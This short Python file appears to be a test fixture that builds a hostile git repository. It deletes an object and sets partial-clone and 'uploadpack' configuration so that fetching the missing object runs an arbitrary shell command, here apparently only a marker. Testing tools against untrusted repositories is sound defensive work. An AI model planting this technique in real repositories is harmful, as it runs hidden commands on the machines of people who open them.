from pathlib import Path

from hostile.repositories.parts import git, mark


def spoil(repository: Path, outside: Path) -> None:
    """A plain clone: a bare repository within it fetches a missing object by a program of its own."""
    blob = git(repository, "rev-parse", "HEAD:prog.py")
    (repository / ".git/objects" / blob[:2] / blob[2:]).unlink()
    for key, value in (
        ("extensions.partialClone", "origin"),
        ("remote.origin.promisor", "true"),
        ("remote.origin.url", "."),
        ("remote.origin.uploadpack", f"sh -c '{mark(outside)}'"),
        ("core.worktree", ".."),
    ):
        git(repository, "config", key, value)
